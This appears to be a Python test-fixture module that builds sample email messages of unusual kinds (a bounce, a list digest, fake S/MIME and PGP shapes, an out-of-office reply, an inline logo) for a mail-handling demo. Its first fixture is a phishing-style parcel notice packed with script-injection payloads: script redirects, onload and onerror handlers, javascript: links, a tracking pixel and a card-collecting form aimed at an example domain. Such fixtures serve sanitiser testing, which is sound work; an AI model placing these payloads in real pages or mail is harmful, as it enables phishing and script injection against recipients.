"""Messages of odd kinds: hostile HTML, bounces, digests, signed and encrypted shapes, an inline picture."""

from demo.writing.mime import base64_lines
from demo.writing.packed import png
from demo.writing.raw import Odd, crlf

_LOGO = (
    base64_lines(png("logo.png", 24, 12, ((23, 64, 94), (240, 240, 240), (200, 60, 50))).content)
    .decode()
    .replace("\r\n", "\n")
)
_SIGNATURE = (
    base64_lines(b"\x30\x80\x06\x09*\x86H\x86\xf7\r\x01\x07\x02 a made-up signature, valid for nothing" * 3)
    .decode()
    .replace("\r\n", "\n")
)

MESSAGES = (
    Odd(
        "hostile-html",
        crlf(
            """From: "Parcel Tracking" <track@parcel-alert.example>
To: contact@meridian-freight.example
Subject: Your parcel is waiting
Date: Tue, 3 Dec 2024 04:44:00 +0000
Message-ID: <parcel-9931@parcel-alert.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://parcel-alert.example/steal">
<link rel="stylesheet" href="https://parcel-alert.example/track.css">
<script>document.location = "https://parcel-alert.example/script-ran"</script>
<style>body { background: url("https://parcel-alert.example/style.gif") }</style>
</head><body onload="alert('onload ran')">
<p>Your parcel from <b>Nantes</b> is waiting. Customs ask for 2.99 to release it.</p>
<p><a href="javascript:alert('link ran')">Pay now</a> or
<a href="https://parcel-alert.example/login">https://www.customs.example/</a></p>
<img src="x" onerror="alert('onerror ran')">
<img src="https://parcel-alert.example/pixel.gif?who=contact" width="1" height="1">
<svg onload="alert('svg ran')"><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>
<iframe src="https://parcel-alert.example/frame"></iframe>
<form action="https://parcel-alert.example/form"><input name="card"><button>Send</button></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%"></div>
<base href="https://parcel-alert.example/"><object data="evil.swf"></object>
</body></html>
""",
            "utf-8",
        ),
    ),
    Odd(
        "bounce-dsn",
        crlf(
            """Return-Path: <>
From: Mail Delivery System <postmaster@meridian-freight.example>
To: priya.raman@meridian-freight.example
Subject: Undelivered Mail Returned to Sender
Date: Wed, 4 Sep 2024 09:11:00 +0200
Message-ID: <dsn-4471@mx.meridian-freight.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn44"

--dsn44
Content-Type: text/plain; charset=us-ascii

Your message could not be delivered to one recipient: the mailbox
night-desk@grey-heron.example does not exist.

--dsn44
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.meridian-freight.example
Arrival-Date: Wed, 4 Sep 2024 09:10:58 +0200

Final-Recipient: rfc822; night-desk@grey-heron.example
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 no such user here

--dsn44
Content-Type: message/rfc822

From: Priya Raman <priya.raman@meridian-freight.example>
To: night-desk@grey-heron.example
Subject: Delivery on Thursday before seven
Date: Wed, 4 Sep 2024 08:10:00 +0100
Message-ID: <heron-thursday@meridian-freight.example>

We will be at the back door at half past six.

--dsn44--
""",
            "ascii",
        ),
    ),
    Odd(
        "digest",
        crlf(
            """From: freight-forum-request@lists.example.org
To: freight-forum@lists.example.org
Subject: Freight-forum Digest, Vol 9, Issue 3
Date: Sun, 6 Oct 2024 12:00:00 +0000
Message-ID: <freight-forum.9.3@lists.example.org>
List-Id: Freight forum <freight-forum.lists.example.org>
Precedence: list
MIME-Version: 1.0
Content-Type: multipart/digest; boundary="digest93"

--digest93

From: anne@example.net
Subject: Loggers that read too cold
Date: Sat, 5 Oct 2024 20:02:00 +0000
Message-ID: <forum-1@example.net>

Has anybody else had a whole lot of loggers four degrees off?

--digest93

From: piet@example.com
Subject: Re: Loggers that read too cold
Date: Sun, 6 Oct 2024 07:40:00 +0000
Message-ID: <forum-2@example.com>
In-Reply-To: <forum-1@example.net>

Yes. Ask for the date of the certificate.

--digest93--
""",
            "ascii",
        ),
    ),
    Odd(
        "smime-signed-shape",
        crlf(
            f"""From: Gaspard Thiriet <g.thiriet@thiriet-associes.example>
To: claire.maubert@meridian-freight.example
Subject: Note d'honoraires
Date: Mon, 4 Nov 2024 18:00:00 +0100
Message-ID: <honoraires-11@thiriet-associes.example>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig11"

--sig11
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Chère Madame, veuillez trouver ma note pour octobre : six heures d'étude,
deux rendez-vous. Le détail vous parviendra par courrier.

--sig11
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

{_SIGNATURE}
--sig11--
""",
            "utf-8",
        ),
    ),
    Odd(
        "pgp-encrypted-shape",
        crlf(
            """From: Thiriet <g.thiriet@thiriet-associes.example>
To: claire.maubert@meridian-freight.example
Subject: ...
Date: Thu, 10 Oct 2024 07:15:00 +0200
Message-ID: <sealed-1010@thiriet-associes.example>
MIME-Version: 1.0
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgp10"

--pgp10
Content-Type: application/pgp-encrypted

Version: 1

--pgp10
Content-Type: application/octet-stream; name="encrypted.asc"

-----BEGIN PGP MESSAGE-----

bm90IGEgcmVhbCBtZXNzYWdlLCBhbmQgbm90aGluZyBpcyBpbiBpdA==
=AAAA
-----END PGP MESSAGE-----

--pgp10--
""",
            "ascii",
        ),
    ),
    Odd(
        "out-of-office",
        crlf(
            """Return-Path: <>
From: Julien Kerbrat <julien.kerbrat@meridian-freight.example>
To: e.strachan@northgate-haulage.example
Subject: Absence Re: Thank you for the punctuality
Date: Wed, 2 Oct 2024 08:00:00 +0200
Message-ID: <absence-1002@meridian-freight.example>
Auto-Submitted: auto-replied

Je suis absent jusqu'au 16 octobre. Hannah Okoro suit ma boite.
I am away until 16 October. Hannah Okoro looks after my mail.
""",
            "ascii",
        ),
    ),
    Odd(
        "picture-in-the-text",
        crlf(
            f"""From: Marguerite Delcourt <m.delcourt@chaiseries-delcourt.example>
To: contact@meridian-freight.example
Subject: Catalogue de printemps
Date: Tue, 11 Mar 2025 09:30:00 +0100
Message-ID: <catalogue-2025@chaiseries-delcourt.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel11"; type="text/html"

--rel11
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<p><img src="cid:logo@chaiseries-delcourt.example" alt="Delcourt" width="24" height="12"></p>
<p>Notre chaise « Folkestone », en hêtre ciré, est née d'un voyage mouillé.
Elle est vendue avec une housse.</p>

--rel11
Content-Type: image/png; name="logo.png"
Content-Transfer-Encoding: base64
Content-ID: <logo@chaiseries-delcourt.example>
Content-Disposition: inline; filename="logo.png"

{_LOGO}
--rel11--
""",
            "utf-8",
        ),
    ),
)
